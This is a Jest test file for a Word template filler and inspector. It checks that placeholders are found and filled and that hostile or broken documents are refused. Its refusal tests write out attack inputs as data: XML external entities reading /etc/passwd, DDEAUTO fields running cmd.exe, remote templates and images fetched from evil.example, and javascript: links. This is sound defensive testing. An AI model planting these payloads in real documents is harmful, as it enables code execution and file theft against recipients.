import { describe, expect, it } from '@jest/globals';
import {
  canValidateOffice,
  changeForm as withPart,
  makeForm,
  officeFaults,
  wordsOfForm as wordsOf,
} from '@commonworks/testing';
import { fillForm } from './fill-form.js';
import type { FormNames } from './form-inspection.js';
import { inspectForm } from './inspect-form.js';

const KNOWN: FormNames = {
  title: 'WORDS',
  'field.notice-days': 'WORDS',
  clauses: 'BLOCKS',
  record: 'BLOCKS',
};
const filling = (title: string) => ({
  words: { title, 'field.notice-days': '30' },
  blocks: {
    clauses: [
      { type: 'heading' as const, level: 1, text: '1 Purpose' },
      { type: 'paragraph' as const, text: '1.1 What “we” <want> & why' },
      { type: 'table' as const, caption: 'Shares', columns: ['Member', 'Share'], rows: [['North', '$1.50']] },
    ],
    record: [],
  },
});
const faultsOf = (form: Buffer) => inspectForm(form, KNOWN).faults.map(({ reason, what }) => [reason, what]);

describe('a form', () => {
  it('is found to have its names, however Word has cut them, in tables, head and foot too', async () => {
    const form = await makeForm({
      head: '{{title}}',
      foot: 'Notice {{ field.notice-days }}',
      body: ['Charter', ['{{cl', 'aus', 'es}}'], 'Of {{title}} and {{title}}'],
      cell: '{{field.notice-days}}',
    });
    expect(inspectForm(form, KNOWN)).toEqual({
      names: ['clauses', 'title', 'field.notice-days'],
      faults: [],
    });
  });

  it('is filled in everywhere, in its own look, as a file in which validators find nothing', async () => {
    const form = await makeForm({
      head: '{{title}}',
      body: ['Charter', ['{{cl', 'aus', 'es}}'], 'Of {{title}}: {{ field.notice-days }} days'],
      cell: '{{title}}',
    });
    const file = fillForm(form, filling('Permits & more'));
    expect(wordsOf(file)).toEqual([
      'Charter',
      '1 Purpose',
      '1.1 What “we” <want> & why',
      'Shares',
      'Member',
      'Share',
      'North',
      '$1.50',
      '',
      'Of Permits & more: 30 days',
      'Permits & more',
    ]);
    expect(wordsOf(file, 'word/header1.xml')).toEqual(['Permits & more']);
    if (canValidateOffice) expect(await officeFaults(file, 'docx')).toEqual([]);
  });

  it('is filled in its notes', async () => {
    const note =
      '<w:footnote w:id="5"><w:p><w:r><w:t>Of {{title}}</w:t></w:r></w:p></w:footnote></w:footnotes>';
    const form = withPart(await makeForm({ body: ['x'] }), 'word/footnotes.xml', (xml) =>
      xml.replace('</w:footnotes>', note),
    );
    expect(inspectForm(form, KNOWN)).toEqual({ names: ['title'], faults: [] });
    expect(wordsOf(fillForm(form, filling('Permits')), 'word/footnotes.xml').at(-1)).toBe('Of Permits');
  });

  it('is the same bytes for the same filling', async () => {
    const form = await makeForm({ body: ['{{title}}', '{{clauses}}'] });
    expect(fillForm(form, filling('x')).equals(fillForm(form, filling('x')))).toBe(true);
  });

  it.each([
    '{{clauses}}',
    '{{title}}',
    '{{#clauses}}{{/clauses}}',
    '{{constructor.constructor("return process")()}}',
    '${1 + 1} <%= 1 %> </w:t></w:r><w:r><w:t>',
    '\u0000\u0007 broken \uD800',
  ])('takes what comes into it for words, whatever they are: %j', async (title) => {
    const form = await makeForm({ body: ['A {{title}} B', '{{record}}'] });
    const [first] = wordsOf(fillForm(form, filling(title)));
    expect(first).toBe(`A ${title.replace(/[\u0000\u0007]/g, '\uFFFD').replace('\uD800', '\uFFFD')} B`);
  });

  it('names what it does not know, with the place', async () => {
    const form = await makeForm({
      heading: 'Our charter',
      body: ['First', 'Agreed by {{council}} and {{__proto__}}', 'Then {{#title}}'],
      foot: '{{constructor}}',
    });
    const { faults } = inspectForm(form, KNOWN);
    expect(faults).toEqual([
      {
        reason: 'UNKNOWN',
        what: 'council',
        place: {
          part: 'BODY',
          heading: 'Our charter',
          paragraph: 3,
          text: 'Agreed by {{council}} and {{__proto__}}',
        },
      },
      { reason: 'UNKNOWN', what: '__proto__', place: expect.objectContaining({ paragraph: 3 }) },
      { reason: 'UNKNOWN', what: '#title', place: expect.objectContaining({ paragraph: 4 }) },
      {
        reason: 'UNKNOWN',
        what: 'constructor',
        place: expect.objectContaining({ part: 'FOOTER', heading: null }),
      },
    ]);
  });

  it('says where braces do not close, and what needs a paragraph of its own', async () => {
    const form = await makeForm({
      body: ['{{title', 'title}}', 'All: {{clauses}}', '{{}}', '{single} is words'],
    });
    expect(faultsOf(form)).toEqual([
      ['UNCLOSED', '{{title'],
      ['UNCLOSED', 'title}}'],
      ['ALONE', 'clauses'],
      ['UNKNOWN', ''],
    ]);
  });
});

const RELATIONS = 'word/_rels/document.xml.rels';
const relation =
  (type: string, target: string, mode = ' TargetMode="External"') =>
  (before: string) =>
    before.replace(
      '</Relationships>',
      `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`,
    );
const inBody = (xml: string) => (before: string) => before.replace('<w:body>', `<w:body>${xml}`);
const field = (instruction: string) =>
  inBody(
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  );
const DOCUMENT = 'word/document.xml';

describe('a hostile or broken form is refused', () => {
  const nested = (depth: number) => `${'<w:p><w:r>'.repeat(depth)}${'</w:r></w:p>'.repeat(depth)}`;
  it.each<[string, string, string, (before: string) => string]>([
    [
      'a document type with entities',
      'DOCTYPE',
      DOCUMENT,
      (xml) => xml.replace('<w:document', '<!DOCTYPE d [<!ENTITY a "b">]><w:document'),
    ],
    [
      'an external entity',
      'DOCTYPE',
      DOCUMENT,
      (xml) => xml.replace('<w:document', '<!DOCTYPE d SYSTEM "file:///etc/passwd"><w:document'),
    ],
    [
      'entities that multiply',
      'DOCTYPE',
      'word/header1.xml',
      () => '<!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><w:hdr>&b;</w:hdr>',
    ],
    [
      'a document type in its relations',
      'DOCTYPE',
      RELATIONS,
      (xml) => xml.replace('<Relationships', '<!DOCTYPE d [<!ENTITY a "b">]><Relationships'),
    ],
    [
      'a template fetched from elsewhere',
      'EXTERNAL',
      'word/_rels/settings.xml.rels',
      () =>
        relation(
          'attachedTemplate',
          'http://evil.example/t.dotm',
        )(
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
        ),
    ],
    [
      'a picture fetched from elsewhere',
      'EXTERNAL',
      RELATIONS,
      relation('image', 'http://evil.example/p.png'),
    ],
    ['a link to a file', 'EXTERNAL', RELATIONS, relation('hyperlink', 'file:///etc/passwd')],
    ['a link that runs', 'EXTERNAL', RELATIONS, relation('hyperlink', 'javascript:alert(1)')],
    ['a document within it', 'EMBEDDED', RELATIONS, relation('aFChunk', 'chunk.html', '')],
    ['an object within it', 'EMBEDDED', 'word/embeddings/oleObject1.bin', () => 'x'],
    ['a control within it', 'EMBEDDED', 'word/activeX/activeX1.xml', () => '<x/>'],
    ['a field that runs', 'FIELD', DOCUMENT, field('DDEAUTO c:\\\\windows\\\\cmd.exe')],
    ['a field that reads a file', 'FIELD', DOCUMENT, field(' INCLUDETEXT "/etc/passwd" ')],
    ['a field that fetches', 'FIELD', DOCUMENT, field('includepicture "http://evil.example/p"')],
    [
      'a field in one piece',
      'FIELD',
      DOCUMENT,
      inBody('<w:p><w:fldSimple w:instr="DDE x"><w:r/></w:fldSimple></w:p>'),
    ],
    ['a field behind a harmless one', 'FIELD', DOCUMENT, (xml) => field('DDEAUTO x')(field('PAGE')(xml))],
    [
      'a field under another prefix',
      'BROKEN',
      DOCUMENT,
      inBody(
        '<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:r><x:instrText>DDEAUTO x</x:instrText></x:r></x:p>',
      ),
    ],
    ['a prefix that stands for something else', 'BROKEN', DOCUMENT, inBody('<w:p xmlns:w="urn:other"/>')],
    [
      'a field in a part that nobody names',
      'FIELD',
      'word/other.xml',
      () =>
        `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:instrText>DDE x</w:instrText></w:r></w:p></w:hdr>`,
    ],
    [
      'a field outside of paragraphs',
      'FIELD',
      DOCUMENT,
      inBody('<w:r><w:instrText>DDE x</w:instrText></w:r>'),
    ],
    [
      'words that stand elsewhere than it says',
      'EMBEDDED',
      '_rels/.rels',
      (xml) => xml.replace('word/document.xml', 'word/other.xml'),
    ],
    [
      'words under the name of a picture',
      'EMBEDDED',
      '[Content_Types].xml',
      (xml) =>
        xml.replace(
          '</Types>',
          '<Override PartName="/word/a.png" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/></Types>',
        ),
    ],
    ['a program', 'EMBEDDED', 'word/media/setup.exe', () => 'MZ'],
    ['letters that are written otherwise', 'BROKEN', DOCUMENT, (xml) => xml.replace('UTF-8', 'UTF-7')],
    ['a field that links to a file', 'FIELD', DOCUMENT, field(' HYPERLINK "file:///etc/passwd" ')],
    [
      'a field that links to another machine',
      'FIELD',
      DOCUMENT,
      field('HYPERLINK \\\\\\\\evil.example\\\\share'),
    ],
    [
      'a link that a field hides behind a harmless switch',
      'FIELD',
      DOCUMENT,
      field('HYPERLINK \\o "https://a.example" javascript:alert(1)'),
    ],
    [
      'a mail merge that asks a database',
      'EXTERNAL',
      'word/settings.xml',
      (xml) =>
        xml.replace(
          '</w:settings>',
          '<w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge></w:settings>',
        ),
    ],
    [
      'a picture that names where it is fetched',
      'EXTERNAL',
      DOCUMENT,
      inBody(
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.example/p.png"/></v:shape></w:pict></w:r></w:p>',
      ),
    ],
    ['paragraphs a thousand deep', 'TOO_LARGE', DOCUMENT, inBody(nested(1000))],
    ['a part that ends too soon', 'BROKEN', DOCUMENT, (xml) => xml.slice(0, -50)],
    ['a part that is no XML', 'BROKEN', DOCUMENT, () => 'words'],
    [
      'a part of 11 MB',
      'TOO_LARGE',
      DOCUMENT,
      inBody(`<w:p><w:r><w:t>${'x'.repeat(11 * 2 ** 20)}</w:t></w:r></w:p>`),
    ],
    [
      'ten thousand names',
      'TOO_LARGE',
      DOCUMENT,
      inBody(`<w:p><w:r><w:t>${'{{title}}'.repeat(10_000)}</w:t></w:r></w:p>`),
    ],
  ])('%s', async (_, reason, part, change) => {
    const form = withPart(await makeForm({ body: ['{{title}}'], head: 'x' }), part, change);
    expect(faultsOf(form).map(([found]) => found)).toContain(reason);
  });

  it('a thousand files', async () => {
    let form = await makeForm({ body: ['{{title}}'] });
    for (let count = 0; count < 1; count += 1) form = withPart(form, 'word/media/a.txt', () => 'x');
    const { default: PizZip } = await import('pizzip');
    const archive = new PizZip(form);
    for (let count = 0; count < 1000; count += 1) archive.file(`word/media/${count}.txt`, 'x');
    expect(faultsOf(archive.generate({ type: 'nodebuffer' }))).toEqual([['TOO_LARGE', '']]);
  });

  it.each([
    ['nothing', Buffer.alloc(0)],
    ['words', Buffer.from('not a document')],
    ['the beginning of an archive', Buffer.from('PK\u0003\u0004')],
  ])('%s', (_, form) => {
    expect(faultsOf(form)).toEqual([['BROKEN', '']]);
  });

  it('an archive that is no document of Word', async () => {
    const { default: PizZip } = await import('pizzip');
    const archive = new PizZip();
    archive.file('[Content_Types].xml', '<Types/>').file('xl/workbook.xml', '<workbook/>');
    expect(faultsOf(archive.generate({ type: 'nodebuffer' }))).toEqual([['BROKEN', '']]);
  });

  it('and harmless links, page numbers and contents are taken', async () => {
    let form = await makeForm({ body: ['{{title}}'] });
    form = withPart(form, RELATIONS, relation('hyperlink', 'https://clarington.example/'));
    form = withPart(form, DOCUMENT, field('PAGE'));
    form = withPart(form, DOCUMENT, field('HYPERLINK "https://clarington.example/" \\h'));
    form = withPart(form, DOCUMENT, field('HYPERLINK \\l "_Toc1"'));
    form = withPart(form, DOCUMENT, field('TOC \\o &quot;1-3&quot; \\h'));
    expect(faultsOf(form)).toEqual([]);
  });
});
